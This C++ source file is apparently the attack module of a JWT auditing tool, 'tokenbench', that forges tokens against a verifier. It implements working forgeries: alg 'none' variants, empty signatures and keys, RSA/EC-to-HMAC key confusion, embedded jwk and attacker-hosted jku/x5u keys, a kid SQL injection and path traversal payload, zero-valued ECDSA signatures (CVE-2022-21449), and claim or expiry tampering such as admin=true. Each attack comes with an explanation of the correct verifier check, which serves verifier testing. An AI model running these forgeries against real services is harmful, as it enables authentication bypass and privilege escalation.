#include "Attacks.h"

#include <openssl/pem.h>
#include <openssl/x509.h>

#include <QHash>
#include <QJsonArray>
#include <QJsonDocument>

#include "crypto/Ossl.h"
#include "crypto/Random.h"
#include "crypto/Signature.h"
#include "jose/Base64Url.h"
#include "jose/Compact.h"
#include "jose/JsonText.h"
#include "jose/JsonView.h"
#include "jose/Jws.h"
#include "keys/KeyIo.h"

namespace tb::audit::attacks {

using jose::Alg;

namespace {

struct Parsed
{
    jose::CompactToken token;
    QByteArray header; // the header JSON text as it stood
    QByteArray payload;
    std::optional<Alg> alg;
};

Result<Parsed> parse(const QByteArray& text)
{
    auto token = jose::parseCompact(text);
    if (!token) {
        return std::unexpected(token.error());
    }
    if (token->kind != jose::TokenKind::Jws) {
        return fail(ErrorCode::InvalidArgument, QStringLiteral("this is a JWE; the attacks work on JWS tokens."));
    }
    const jose::JsonScan scan = jose::scanJson(token->header);
    if (scan.error || !scan.topLevelIsObject) {
        return fail(ErrorCode::BadJson, QStringLiteral("The header is not a JSON object."));
    }
    const jose::JsonObjectView view(token->header, scan);
    Parsed p{*token, token->header, token->payload, std::nullopt};
    if (auto name = view.string("alg")) {
        p.alg = jose::algFromName(*name);
    }
    return p;
}

QByteArray quoted(const QString& s)
{
    return jose::jsonQuote(s);
}

Result<QByteArray> withMember(const QByteArray& header, const QString& name, const QByteArray& valueJson,
                              jose::InsertAt where = jose::InsertAt::AtEnd)
{
    return jose::setTopLevelMember(header, name, valueJson, where);
}

Result<QByteArray> withAlg(const QByteArray& header, const QString& alg)
{
    return jose::setTopLevelMember(header, QStringLiteral("alg"), quoted(alg), jose::InsertAt::AtStart);
}

QByteArray unsignedToken(const QByteArray& header, const QByteArray& payloadSegment, const QByteArray& sig = {})
{
    return jose::base64UrlEncode(header) + '.' + payloadSegment + '.' + sig;
}

// Signs header + payload with `alg` and `key`; the payload bytes are the original's.
Result<QByteArray> sign(Alg alg, const keys::Key& key, const QByteArray& header, const QByteArray& payload)
{
    return jose::signCompact(alg, &key, header, payload);
}

#define TRY(var, expr)                                                                                                 \
    auto var = (expr);                                                                                                 \
    if (!var) {                                                                                                        \
        return std::unexpected(var.error());                                                                           \
    }

// ---- key material the attacks need ----

Result<QByteArray> encodePublic(const keys::Key& key, const char* format, const char* structure)
{
    crypto::EncoderCtxPtr ctx(
        OSSL_ENCODER_CTX_new_for_pkey(key.pkey(), EVP_PKEY_PUBLIC_KEY, format, structure, nullptr));
    if (!ctx || OSSL_ENCODER_CTX_get_num_encoders(ctx.get()) == 0) {
        return fail(ErrorCode::Unsupported, QStringLiteral("OpenSSL cannot write this key as %1 %2.")
                                                .arg(QLatin1String(format), QLatin1String(structure)));
    }
    unsigned char* data = nullptr;
    std::size_t len = 0;
    if (OSSL_ENCODER_to_data(ctx.get(), &data, &len) != 1) {
        return fail(ErrorCode::CryptoFailure, QStringLiteral("OpenSSL could not encode the public key."),
                    crypto::takeOpensslErrors());
    }
    QByteArray out(reinterpret_cast<const char*>(data), qsizetype(len));
    OPENSSL_free(data);
    return out;
}

// A self-signed certificate for `key` (X.509 v3, SHA-256, one year), as DER.
Result<QByteArray> selfSignedCertificateDer(const keys::Key& key)
{
    crypto::X509Ptr cert(X509_new());
    if (!cert || X509_set_version(cert.get(), 2) != 1) {
        return fail(ErrorCode::CryptoFailure, QStringLiteral("OpenSSL could not create a certificate."));
    }
    auto serial = crypto::randomBytes(8);
    if (!serial) {
        return std::unexpected(serial.error());
    }
    crypto::BnPtr serialBn(BN_bin2bn(reinterpret_cast<const unsigned char*>(serial->constData()), 8, nullptr));
    ASN1_INTEGER* asn = X509_get_serialNumber(cert.get());
    if (!serialBn || BN_to_ASN1_INTEGER(serialBn.get(), asn) == nullptr) {
        return fail(ErrorCode::CryptoFailure, QStringLiteral("OpenSSL could not set the serial number."));
    }
    X509_gmtime_adj(X509_getm_notBefore(cert.get()), 0);
    X509_gmtime_adj(X509_getm_notAfter(cert.get()), 365L * 86400);
    X509_NAME* name = X509_get_subject_name(cert.get());
    X509_NAME_add_entry_by_txt(name, "CN", MBSTRING_ASC, reinterpret_cast<const unsigned char*>("tokenbench attacker"),
                               -1, -1, 0);
    X509_set_issuer_name(cert.get(), name);
    const bool eddsa = EVP_PKEY_is_a(key.pkey(), "ED25519") || EVP_PKEY_is_a(key.pkey(), "ED448");
    if (X509_set_pubkey(cert.get(), key.pkey()) != 1 ||
        X509_sign(cert.get(), key.pkey(), eddsa ? nullptr : EVP_sha256()) <= 0) {
        return fail(ErrorCode::CryptoFailure, QStringLiteral("OpenSSL could not sign the certificate."),
                    crypto::takeOpensslErrors());
    }
    const int len = i2d_X509(cert.get(), nullptr);
    if (len <= 0) {
        return fail(ErrorCode::CryptoFailure, QStringLiteral("OpenSSL could not encode the certificate."));
    }
    QByteArray der(len, Qt::Uninitialized);
    auto* p = reinterpret_cast<unsigned char*>(der.data());
    i2d_X509(cert.get(), &p);
    return der;
}

QByteArray pemWrap(const QByteArray& der, const char* label)
{
    QByteArray out = QByteArray("-----BEGIN ") + label + "-----\n";
    const QByteArray b64 = der.toBase64();
    for (qsizetype i = 0; i < b64.size(); i += 64) {
        out += b64.mid(i, 64) + '\n';
    }
    return out + "-----END " + label + "-----\n";
}

// The algorithm of the fresh key: the one asked for, else the token's when it is asymmetric, else RS256.
Result<Alg> freshAlg(const AttackInput& input, const Parsed& p)
{
    if (!input.freshAlg.isEmpty()) {
        const auto alg = jose::algFromName(input.freshAlg);
        if (!alg || *alg == Alg::None || jose::algFamily(*alg) == jose::AlgFamily::Hmac) {
            return fail(ErrorCode::UnsupportedAlgorithm,
                        QStringLiteral("--alg for a fresh key must be an asymmetric JWS algorithm (got \"%1\").")
                            .arg(input.freshAlg));
        }
        return *alg;
    }
    if (p.alg && *p.alg != Alg::None && jose::algFamily(*p.alg) != jose::AlgFamily::Hmac) {
        return *p.alg;
    }
    return Alg::RS256;
}

struct FreshKey
{
    Alg alg;
    keys::KeyPtr key;
    QByteArray publicJwk; // with kid (thumbprint), alg and use
    QString kid;
};

Result<FreshKey> makeFreshKey(const AttackInput& input, const Parsed& p)
{
    TRY(alg, freshAlg(input, p));
    TRY(key, keys::generateKey(*alg));
    TRY(kid, keys::thumbprint(**key));
    keys::KeyMeta meta;
    meta.kid = *kid;
    meta.alg = jose::algName(*alg);
    meta.use = QStringLiteral("sig");
    TRY(jwk, keys::exportJwk(**key, keys::KeyPart::Public, meta));
    return FreshKey{*alg, *key, *jwk, *kid};
}

Artifact privateKeyArtifact(const keys::Key& key)
{
    auto pem = keys::exportPem(key, keys::KeyPart::Private);
    return {QStringLiteral("attacker-key.pem"), pem.value_or(QByteArray())};
}

// ---- the attacks ----

// One paragraph per kind: why the attack works and what a correct verifier does (shown before a run, too).
const QHash<QString, QString>& explanations()
{
    static const QHash<QString, QString> all = {
        {QStringLiteral("none"),
         QStringLiteral(
             "The header is rewritten to alg \"none\" (and the letter-case variants None, NONE, nOnE that slip past a "
             "case-sensitive deny-list), with the signature removed or left in place. A library that takes the "
             "algorithm "
             "from the token instead of from its own configuration then skips the signature check and accepts any "
             "claims "
             "(RFC 8725 §2.1, §3.1). A correct verifier fixes the accepted algorithms per key, never accepts \"none\" "
             "unless "
             "configured to, and treats algorithm names as case-sensitive.")},
        {QStringLiteral("null-signature"),
         QStringLiteral(
             "The header and payload are kept and the signature segment is emptied. Verifiers that compare a computed "
             "signature with the received one over the received length, or that treat a missing signature as \"nothing "
             "to "
             "check\", accept it (e.g. CVE-2020-28042). A correct verifier requires a signature of the algorithm's "
             "exact "
             "length and checks it.")},
        {QStringLiteral("empty-key"),
         QStringLiteral("The token is re-signed with HMAC and an empty secret. A service whose key lookup fails "
                        "(unknown kid, missing "
                        "configuration) and falls back to an empty or default secret accepts it. A correct verifier "
                        "refuses to run "
                        "HMAC with an empty or short secret and fails closed when no key is found.")},
        {QStringLiteral("confusion"), QStringLiteral("The header is switched to HMAC and the token is MACed with the "
                                                     "verifier's public key used as the secret, in "
                                                     "each common serialisation (PEM with LF, CRLF or no final "
                                                     "newline, PKCS#1, DER, the certificate, the JWK). A "
                                                     "library that picks the algorithm from the token and hands its "
                                                     "configured key bytes to HMAC computes the same "
                                                     "MAC and accepts (CVE-2015-9235, CVE-2016-10555). A correct "
                                                     "verifier binds each key to its algorithm family, "
                                                     "so an RSA or EC key is never used as an HMAC secret.")},
        {QStringLiteral("embedded-jwk"),
         QStringLiteral(
             "A fresh key pair is generated, its public half is embedded in the header as \"jwk\", and the token is "
             "signed "
             "with its private half. A verifier that takes the key from the token itself (CVE-2018-0114, node-jose) "
             "checks the signature against the attacker's own key and accepts. A correct verifier only uses keys it "
             "was "
             "configured with (or that chain to a pinned trust anchor) and ignores a self-asserted jwk.")},
        {QStringLiteral("x5u"),
         QStringLiteral(
             "The header names a certificate URL (x5u) the attacker controls, and the token is signed with the key of "
             "the self-signed certificate hosted there (cert.pem). A verifier that fetches x5u and trusts the "
             "certificate it finds accepts; fetching also lets the token make the server send requests (SSRF). A "
             "correct verifier ignores x5u, or only follows allow-listed URLs and validates the chain to a pinned "
             "anchor.")},
        {QStringLiteral("jku"),
         QStringLiteral(
             "The header names a JWK Set URL (jku) the attacker controls, and the token is signed with a fresh key "
             "whose "
             "public half is in the JWK Set to host there (jwks.json, kid = the key's thumbprint). A verifier that "
             "downloads keys from the URL in the token accepts; fetching also lets the token make the server send "
             "requests (SSRF). A correct verifier uses its configured JWK Set URL, or an exact allow-list, never the "
             "token's.")},
        {QStringLiteral("x5c"),
         QStringLiteral(
             "A self-signed certificate for a fresh key is placed in the header as a one-element x5c chain, and the "
             "token "
             "is signed with that key. A verifier that takes the key from x5c[0] without validating the chain to a "
             "trusted "
             "root accepts any token. A correct verifier builds and validates the chain against pinned trust anchors "
             "(and checks the certificate's name and usage), or ignores x5c.")},
        {QStringLiteral("kid"),
         QStringLiteral(
             "The kid header is used as an injection vector: a path to /dev/null (the server reads an empty file, so "
             "the "
             "token is MACed with an empty secret) and a SQL UNION that makes a string-built key query return "
             "\"tokenbench-sqli\", the secret the token is MACed with. A correct verifier treats kid as an opaque "
             "lookup "
             "key into a fixed key set (no file paths, no string-built queries) and refuses empty secrets.")},
        {QStringLiteral("psychic"), QStringLiteral("The signature is r = 0, s = 0, in the raw r||s form JWS uses and "
                                                   "in DER. ECDSA verification divides by s and "
                                                   "compares with r, and an implementation that skips the range check "
                                                   "1 <= r, s < n accepts these for any message "
                                                   "and any key (CVE-2022-21449, Java 15-18). A correct verifier "
                                                   "requires the exact raw length and rejects r or s "
                                                   "outside [1, n-1].")},
        {QStringLiteral("malleability"),
         QStringLiteral(
             "An ECDSA signature (r, s) is equally valid as (r, n - s), so anyone can derive a second, different token "
             "from "
             "a genuine one without the key (and the DER spelling of the same signature is a third). The claims are "
             "unchanged, but a system that uses the token's bytes or hash as an identity (denylists after logout, "
             "replay "
             "caches, jti-less revocation) is bypassed. A correct system revokes by jti or by the verified claims, not "
             "by "
             "token bytes, and can insist on the low-s form; a verifier must reject the DER form for JWS.")},
        {QStringLiteral("tamper"),
         QStringLiteral(
             "Claims are changed (by default admin = true, role = \"admin\") and the original signature is kept; with "
             "the "
             "key known (a cracked or leaked HMAC secret, a private key) the token is also re-signed. A service that "
             "decodes without verifying, or verifies only some tokens, accepts the first; nothing can tell the "
             "re-signed "
             "one "
             "from a genuine token, which is why the signing key must be strong, secret and rotated.")},
        {QStringLiteral("exp"),
         QStringLiteral(
             "exp is moved into the far future while the original signature is kept (and, with the key known, "
             "re-signed). "
             "A service that checks exp before, or instead of, the signature, or caches \"valid until exp\" from an "
             "unverified read, keeps accepting a stolen token. A correct verifier checks the signature over the exact "
             "bytes "
             "first and only then reads exp; a re-signed token shows why the key must stay secret.")},
    };
    return all;
}

QString explanationOf(const QString& kind)
{
    return explanations().value(kind);
}

Result<AttackResult> attackNone(const AttackInput&, const Parsed& p)
{
    AttackResult r;
    const QByteArray sig = p.token.segments.value(2);
    for (const char* name : {"none", "None", "NONE", "nOnE"}) {
        TRY(header, withAlg(p.header, QString::fromLatin1(name)));
        r.tokens.append(
            {QStringLiteral("alg-%1").arg(QLatin1String(name)), unsignedToken(*header, p.token.segments[1])});
        r.tokens.append({QStringLiteral("alg-%1-with-signature").arg(QLatin1String(name)),
                         unsignedToken(*header, p.token.segments[1], sig.isEmpty() ? QByteArray("AA") : sig)});
    }
    r.explanation = explanationOf(QStringLiteral("none"));
    return r;
}

Result<AttackResult> attackNullSignature(const AttackInput&, const Parsed& p)
{
    AttackResult r;
    // The original header and payload segments, byte for byte.
    r.tokens.append({QStringLiteral("empty-signature"), p.token.segments[0] + '.' + p.token.segments[1] + '.'});
    r.explanation = explanationOf(QStringLiteral("null-signature"));
    return r;
}

Result<AttackResult> attackEmptyKey(const AttackInput&, const Parsed& p)
{
    AttackResult r;
    const keys::KeyPtr empty = keys::secretKey(QByteArray());
    for (Alg alg : {Alg::HS256, Alg::HS384, Alg::HS512}) {
        TRY(header, withAlg(p.header, jose::algName(alg)));
        TRY(token, sign(alg, *empty, *header, p.payload));
        r.tokens.append({QStringLiteral("%1-empty-key").arg(jose::algName(alg).toLower()), *token});
    }
    r.explanation = explanationOf(QStringLiteral("empty-key"));
    return r;
}

struct Serialisation
{
    QString name;
    QByteArray bytes;
};

Result<QList<Serialisation>> publicKeySerialisations(const AttackInput& input)
{
    const keys::Key& key = *input.publicKey;
    QList<Serialisation> out;
    TRY(pem, keys::exportPem(key, keys::KeyPart::Public));
    QByteArray lf = *pem;
    lf.replace("\r\n", "\n");
    if (!lf.endsWith('\n')) {
        lf += '\n';
    }
    QByteArray crlf = lf;
    crlf.replace("\n", "\r\n");
    out.append({QStringLiteral("spki-pem-lf"), lf});
    out.append({QStringLiteral("spki-pem-crlf"), crlf});
    out.append({QStringLiteral("spki-pem-no-final-newline"), lf.chopped(1)});
    if (key.type() == keys::KeyType::Rsa) {
        auto pkcs1 = encodePublic(key, "PEM", "pkcs1");
        if (!pkcs1) {
            pkcs1 = encodePublic(key, "PEM", "type-specific");
        }
        if (pkcs1) {
            out.append({QStringLiteral("pkcs1-pem"), *pkcs1});
        }
    }
    TRY(der, encodePublic(key, "DER", "SubjectPublicKeyInfo"));
    out.append({QStringLiteral("spki-der"), *der});
    const QByteArray& file = input.publicKeyFile;
    if (file.contains("-----BEGIN CERTIFICATE-----")) {
        QByteArray certLf = file;
        certLf.replace("\r\n", "\n");
        const qsizetype begin = certLf.indexOf("-----BEGIN CERTIFICATE-----");
        const qsizetype end = certLf.indexOf("-----END CERTIFICATE-----", begin);
        if (end > begin) {
            certLf = certLf.mid(begin, end - begin) + "-----END CERTIFICATE-----\n";
        }
        out.append({QStringLiteral("certificate-pem"), certLf});
        out.append({QStringLiteral("certificate-pem-no-final-newline"), certLf.chopped(1)});
    }
    TRY(jwk, keys::exportJwk(key, keys::KeyPart::Public));
    out.append({QStringLiteral("jwk"), *jwk});
    if (!file.isEmpty() &&
        std::none_of(out.begin(), out.end(), [&file](const Serialisation& s) { return s.bytes == file; })) {
        out.append({QStringLiteral("key-file-as-given"), file});
    }
    return out;
}

Result<AttackResult> attackConfusion(const AttackInput& input, const Parsed& p)
{
    if (!input.publicKey || input.publicKey->type() == keys::KeyType::Oct) {
        return fail(ErrorCode::InvalidArgument,
                    QStringLiteral("confusion needs the verifier's public key or certificate (--key FILE)."));
    }
    TRY(forms, publicKeySerialisations(input));
    AttackResult r;
    for (Alg alg : {Alg::HS256, Alg::HS384, Alg::HS512}) {
        TRY(header, withAlg(p.header, jose::algName(alg)));
        for (const auto& form : *forms) {
            const keys::KeyPtr secret = keys::secretKey(form.bytes);
            TRY(token, sign(alg, *secret, *header, p.payload));
            r.tokens.append({QStringLiteral("%1/%2").arg(jose::algName(alg).toLower(), form.name), *token});
        }
    }
    r.explanation = explanationOf(QStringLiteral("confusion"));
    return r;
}

Result<AttackResult> attackEmbeddedJwk(const AttackInput& input, const Parsed& p)
{
    TRY(fresh, makeFreshKey(input, p));
    TRY(withA, withAlg(p.header, jose::algName(fresh->alg)));
    TRY(header, withMember(*withA, QStringLiteral("jwk"), fresh->publicJwk));
    TRY(token, sign(fresh->alg, *fresh->key, *header, p.payload));
    AttackResult r;
    r.tokens.append({QStringLiteral("jwk-%1-fresh-key").arg(jose::algName(fresh->alg).toLower()), *token});
    TRY(withKid, withMember(*header, QStringLiteral("kid"), quoted(fresh->kid)));
    TRY(token2, sign(fresh->alg, *fresh->key, *withKid, p.payload));
    r.tokens.append(
        {QStringLiteral("jwk-%1-fresh-key-kid-thumbprint").arg(jose::algName(fresh->alg).toLower()), *token2});
    r.artifacts.append(privateKeyArtifact(*fresh->key));
    r.explanation = explanationOf(QStringLiteral("embedded-jwk"));
    return r;
}

Result<AttackResult> attackJku(const AttackInput& input, const Parsed& p, bool x5u)
{
    if (input.url.isEmpty()) {
        return fail(ErrorCode::InvalidArgument,
                    QStringLiteral("%1 needs the URL where you will host the %2 (--url URL).")
                        .arg(x5u ? QStringLiteral("x5u") : QStringLiteral("jku"),
                             x5u ? QStringLiteral("certificate") : QStringLiteral("JWK Set")));
    }
    TRY(fresh, makeFreshKey(input, p));
    TRY(withA, withAlg(p.header, jose::algName(fresh->alg)));
    TRY(withUrl, withMember(*withA, x5u ? QStringLiteral("x5u") : QStringLiteral("jku"), quoted(input.url)));
    TRY(header, withMember(*withUrl, QStringLiteral("kid"), quoted(fresh->kid)));
    TRY(token, sign(fresh->alg, *fresh->key, *header, p.payload));
    AttackResult r;
    r.tokens.append(
        {QStringLiteral("%1-attacker-url").arg(x5u ? QStringLiteral("x5u") : QStringLiteral("jku")), *token});
    if (x5u) {
        TRY(der, selfSignedCertificateDer(*fresh->key));
        r.artifacts.append({QStringLiteral("cert.pem"), pemWrap(*der, "CERTIFICATE")});
        r.explanation = explanationOf(QStringLiteral("x5u"));
    } else {
        r.artifacts.append({QStringLiteral("jwks.json"), "{\"keys\":[" + fresh->publicJwk + "]}\n"});
        r.explanation = explanationOf(QStringLiteral("jku"));
    }
    r.artifacts.append(privateKeyArtifact(*fresh->key));
    return r;
}

Result<AttackResult> attackX5c(const AttackInput& input, const Parsed& p)
{
    TRY(fresh, makeFreshKey(input, p));
    TRY(der, selfSignedCertificateDer(*fresh->key));
    TRY(withA, withAlg(p.header, jose::algName(fresh->alg)));
    TRY(header, withMember(*withA, QStringLiteral("x5c"), "[" + quoted(QString::fromLatin1(der->toBase64())) + "]"));
    TRY(token, sign(fresh->alg, *fresh->key, *header, p.payload));
    AttackResult r;
    r.tokens.append({QStringLiteral("x5c-self-signed"), *token});
    r.artifacts.append({QStringLiteral("cert.pem"), pemWrap(*der, "CERTIFICATE")});
    r.artifacts.append(privateKeyArtifact(*fresh->key));
    r.explanation = explanationOf(QStringLiteral("x5c"));
    return r;
}

Result<AttackResult> attackKid(const AttackInput&, const Parsed& p)
{
    AttackResult r;
    struct Case
    {
        const char* name;
        const char* kid;
        QByteArray secret;
    };
    const QByteArray sqlSecret = "tokenbench-sqli";
    const Case cases[] = {
        {"kid-path-traversal-dev-null", "../../../../../../../../dev/null", QByteArray()},
        {"kid-absolute-dev-null", "/dev/null", QByteArray()},
        {"kid-sql-injection", "x' UNION SELECT 'tokenbench-sqli' -- ", sqlSecret},
    };
    for (const Case& c : cases) {
        TRY(withA, withAlg(p.header, QStringLiteral("HS256")));
        TRY(header, withMember(*withA, QStringLiteral("kid"), quoted(QString::fromLatin1(c.kid))));
        TRY(token, sign(Alg::HS256, *keys::secretKey(c.secret), *header, p.payload));
        r.tokens.append({QString::fromLatin1(c.name), *token});
    }
    r.explanation = explanationOf(QStringLiteral("kid"));
    return r;
}

Result<AttackResult> attackPsychic(const AttackInput&, const Parsed& p)
{
    AttackResult r;
    for (Alg alg : {Alg::ES256, Alg::ES384, Alg::ES512}) {
        const int n = crypto::ecdsaCoordBytes(alg);
        TRY(header, withAlg(p.header, jose::algName(alg)));
        const QByteArray raw(2 * n, '\0');
        const QByteArray der = QByteArray::fromHex("3006020100020100");
        const QByteArray base = jose::base64UrlEncode(*header) + '.' + p.token.segments[1] + '.';
        r.tokens.append(
            {QStringLiteral("%1-raw-zero").arg(jose::algName(alg).toLower()), base + jose::base64UrlEncode(raw)});
        r.tokens.append(
            {QStringLiteral("%1-der-zero").arg(jose::algName(alg).toLower()), base + jose::base64UrlEncode(der)});
    }
    r.explanation = explanationOf(QStringLiteral("psychic"));
    return r;
}

Result<AttackResult> attackMalleability(const AttackInput&, const Parsed& p)
{
    if (!p.alg || jose::algFamily(*p.alg) != jose::AlgFamily::Ecdsa || *p.alg == Alg::ES256K) {
        return fail(ErrorCode::InvalidArgument, QStringLiteral("malleability needs an ES256, ES384 or ES512 token."));
    }
    const int n = crypto::ecdsaCoordBytes(*p.alg);
    const QByteArray& sig = p.token.signature;
    if (sig.size() != 2 * n) {
        return fail(ErrorCode::InvalidArgument, QStringLiteral("The %1 signature must be %2 raw bytes to be malleated.")
                                                    .arg(jose::algName(*p.alg))
                                                    .arg(2 * n));
    }
    const int nid = *p.alg == Alg::ES256 ? NID_X9_62_prime256v1 : *p.alg == Alg::ES384 ? NID_secp384r1 : NID_secp521r1;
    std::unique_ptr<EC_GROUP, crypto::Deleter<EC_GROUP_free>> group(EC_GROUP_new_by_curve_name(nid));
    crypto::BnPtr s(BN_bin2bn(reinterpret_cast<const unsigned char*>(sig.constData()) + n, n, nullptr));
    crypto::BnPtr flipped(BN_new());
    if (!group || !s || !flipped || BN_sub(flipped.get(), EC_GROUP_get0_order(group.get()), s.get()) != 1) {
        return fail(ErrorCode::CryptoFailure, QStringLiteral("OpenSSL could not compute n - s."));
    }
    QByteArray out = sig.first(n);
    out.resize(2 * n);
    if (BN_bn2binpad(flipped.get(), reinterpret_cast<unsigned char*>(out.data()) + n, n) != n) {
        return fail(ErrorCode::CryptoFailure, QStringLiteral("OpenSSL could not encode n - s."));
    }
    AttackResult r;
    const QByteArray base = p.token.segments[0] + '.' + p.token.segments[1] + '.';
    r.tokens.append({QStringLiteral("s-to-n-minus-s"), base + jose::base64UrlEncode(out)});
    auto der = crypto::ecdsaRawToDer(sig, n);
    if (der) {
        r.tokens.append({QStringLiteral("der-encoded-signature"), base + jose::base64UrlEncode(*der)});
    }
    r.explanation = explanationOf(QStringLiteral("malleability"));
    return r;
}

Result<QByteArray> editedPayload(const QByteArray& payload, const QList<QPair<QString, QByteArray>>& claims)
{
    QByteArray out = payload;
    for (const auto& [name, value] : claims) {
        auto next = jose::setTopLevelMember(out, name, value, jose::InsertAt::AtEnd);
        if (!next) {
            return std::unexpected(next.error());
        }
        out = *next;
    }
    return out;
}

Result<void> addResigned(AttackResult& r, const AttackInput& input, const Parsed& p, const QByteArray& payload,
                         const QString& name)
{
    if (!input.signingKey || !p.alg || *p.alg == Alg::None) {
        return {};
    }
    if (!input.signingKey->fits(*p.alg) ||
        (input.signingKey->type() != keys::KeyType::Oct && !input.signingKey->hasPrivate())) {
        return fail(ErrorCode::KeyMismatch, QStringLiteral("Re-signing %1 needs its private key or secret; the given "
                                                           "key is a %2.")
                                                .arg(jose::algName(*p.alg), input.signingKey->describe()));
    }
    TRY(token, sign(*p.alg, *input.signingKey, p.header, payload));
    r.tokens.append({name, *token});
    return {};
}

Result<AttackResult> attackTamper(const AttackInput& input, const Parsed& p)
{
    QList<QPair<QString, QByteArray>> claims = input.claims;
    if (claims.isEmpty()) {
        claims = {{QStringLiteral("admin"), "true"}, {QStringLiteral("role"), "\"admin\""}};
    }
    TRY(payload, editedPayload(p.payload, claims));
    AttackResult r;
    r.tokens.append({QStringLiteral("tampered-original-signature"),
                     p.token.segments[0] + '.' + jose::base64UrlEncode(*payload) + '.' + p.token.segments[2]});
    TRY(ok, addResigned(r, input, p, *payload, QStringLiteral("tampered-re-signed")));
    r.explanation = explanationOf(QStringLiteral("tamper"));
    return r;
}

Result<AttackResult> attackExp(const AttackInput& input, const Parsed& p)
{
    const jose::JsonScan scan = jose::scanJson(p.payload);
    const jose::JsonObjectView claims(p.payload, scan);
    if (!claims.isObject()) {
        return fail(ErrorCode::InvalidArgument, QStringLiteral("The payload is not a JSON object, so it has no exp."));
    }
    const double exp = claims.number("exp").value_or(4102444800.0 - input.extendBy);
    const QByteArray value = QByteArray::number(qint64(exp + input.extendBy));
    TRY(payload, editedPayload(p.payload, {{QStringLiteral("exp"), value}}));
    AttackResult r;
    r.tokens.append({QStringLiteral("exp-extended-original-signature"),
                     p.token.segments[0] + '.' + jose::base64UrlEncode(*payload) + '.' + p.token.segments[2]});
    TRY(far, editedPayload(p.payload, {{QStringLiteral("exp"), "9999999999"}}));
    r.tokens.append({QStringLiteral("exp-9999999999-original-signature"),
                     p.token.segments[0] + '.' + jose::base64UrlEncode(*far) + '.' + p.token.segments[2]});
    TRY(ok, addResigned(r, input, p, *payload, QStringLiteral("exp-extended-re-signed")));
    r.explanation = explanationOf(QStringLiteral("exp"));
    return r;
}

using AttackFn = Result<AttackResult> (*)(const AttackInput&, const Parsed&);

struct Kind
{
    KindInfo info;
    AttackFn fn;
};

const QList<Kind>& kinds()
{
    static const QList<Kind> all = {
        {{QStringLiteral("none"),
          QStringLiteral("alg none in four letter cases, with and without the signature"),
          {},
          {}},
         attackNone},
        {{QStringLiteral("null-signature"), QStringLiteral("the original token with an empty signature"), {}, {}},
         attackNullSignature},
        {{QStringLiteral("empty-key"), QStringLiteral("HS256/384/512 MACed with an empty secret"), {}, {}},
         attackEmptyKey},
        {{QStringLiteral("confusion"),
          QStringLiteral("HS256/384/512 MACed with the public key in every serialisation"),
          QStringLiteral("--key"),
          {}},
         attackConfusion},
        {{QStringLiteral("embedded-jwk"), QStringLiteral("a fresh key embedded as jwk (CVE-2018-0114)"), {}, {}},
         attackEmbeddedJwk},
        {{QStringLiteral("jku"),
          QStringLiteral("jku pointing to your URL, with the JWK Set to host"),
          QStringLiteral("--url"),
          {}},
         [](const AttackInput& i, const Parsed& p) { return attackJku(i, p, false); }},
        {{QStringLiteral("x5u"),
          QStringLiteral("x5u pointing to your URL, with the certificate to host"),
          QStringLiteral("--url"),
          {}},
         [](const AttackInput& i, const Parsed& p) { return attackJku(i, p, true); }},
        {{QStringLiteral("x5c"), QStringLiteral("a self-signed certificate chain in x5c"), {}, {}}, attackX5c},
        {{QStringLiteral("kid"), QStringLiteral("kid path traversal to /dev/null and SQL injection"), {}, {}},
         attackKid},
        {{QStringLiteral("psychic"),
          QStringLiteral("ES256/384/512 with r = s = 0, raw and DER (CVE-2022-21449)"),
          {},
          {}},
         attackPsychic},
        {{QStringLiteral("malleability"), QStringLiteral("ECDSA s -> n - s: a second valid signature"), {}, {}},
         attackMalleability},
        {{QStringLiteral("tamper"),
          QStringLiteral("changed claims, original signature, re-signed when the key is known"),
          {},
          {}},
         attackTamper},
        {{QStringLiteral("exp"),
          QStringLiteral("exp extended, original signature, re-signed when the key is known"),
          {},
          {}},
         attackExp},
    };
    return all;
}

} // namespace

const QList<KindInfo>& attackKinds()
{
    static const QList<KindInfo> infos = [] {
        QList<KindInfo> out;
        for (const auto& k : kinds()) {
            out << k.info;
            out.last().explanation = explanationOf(k.info.kind);
        }
        return out;
    }();
    return infos;
}

Result<AttackResult> runAttack(const QString& kind, const AttackInput& input)
{
    for (const auto& k : kinds()) {
        if (k.info.kind != kind) {
            continue;
        }
        TRY(parsed, parse(input.token));
        TRY(result, k.fn(input, *parsed));
        result->kind = kind;
        return result;
    }
    return fail(ErrorCode::InvalidArgument, QStringLiteral("unknown attack '%1' (see 'attack --list').").arg(kind));
}

QJsonObject attackJson(const AttackResult& result)
{
    QJsonArray tokens;
    for (const auto& v : result.tokens) {
        tokens.append(
            QJsonObject{{QStringLiteral("variant"), v.name}, {QStringLiteral("token"), QString::fromLatin1(v.token)}});
    }
    QJsonObject o{{QStringLiteral("kind"), result.kind},
                  {QStringLiteral("tokens"), tokens},
                  {QStringLiteral("explanation"), result.explanation}};
    if (!result.artifacts.isEmpty()) {
        QJsonArray artifacts;
        for (const auto& a : result.artifacts) {
            artifacts.append(QJsonObject{{QStringLiteral("name"), a.name},
                                         {QStringLiteral("content"), QString::fromUtf8(a.content)}});
            if (a.name == QStringLiteral("jwks.json")) {
                o.insert(QStringLiteral("jwks"), QJsonDocument::fromJson(a.content).object());
            }
        }
        o.insert(QStringLiteral("artifacts"), artifacts);
    }
    return o;
}

Result<QJsonObject> attackCorpus(const AttackInput& input)
{
    TRY(parsed, parse(input.token));
    QJsonArray attacks;
    QJsonArray skipped;
    QJsonArray flat;
    for (const auto& k : kinds()) {
        auto result = k.fn(input, *parsed);
        if (!result) {
            skipped.append(
                QJsonObject{{QStringLiteral("kind"), k.info.kind}, {QStringLiteral("reason"), result.error().message}});
            continue;
        }
        result->kind = k.info.kind;
        attacks.append(attackJson(*result));
        for (const auto& v : result->tokens) {
            flat.append(QJsonObject{{QStringLiteral("variant"), QStringLiteral("%1/%2").arg(k.info.kind, v.name)},
                                    {QStringLiteral("token"), QString::fromLatin1(v.token)}});
        }
    }
    return QJsonObject{
        {QStringLiteral("kind"), QStringLiteral("corpus")},
        {QStringLiteral("token"), QString::fromLatin1(parsed->token.raw)},
        {QStringLiteral("attacks"), attacks},
        {QStringLiteral("skipped"), skipped},
        {QStringLiteral("tokens"), flat},
        {QStringLiteral("explanation"),
         QStringLiteral("Every attack variant tokenbench can craft for this token and key. Replay each against your "
                        "verifier: a correct one rejects all of them, except the re-signed variants (made with a key "
                        "you supplied) and ECDSA malleability (a mathematically valid signature) — see each "
                        "attack's explanation.")},
    };
}

} // namespace tb::audit::attacks
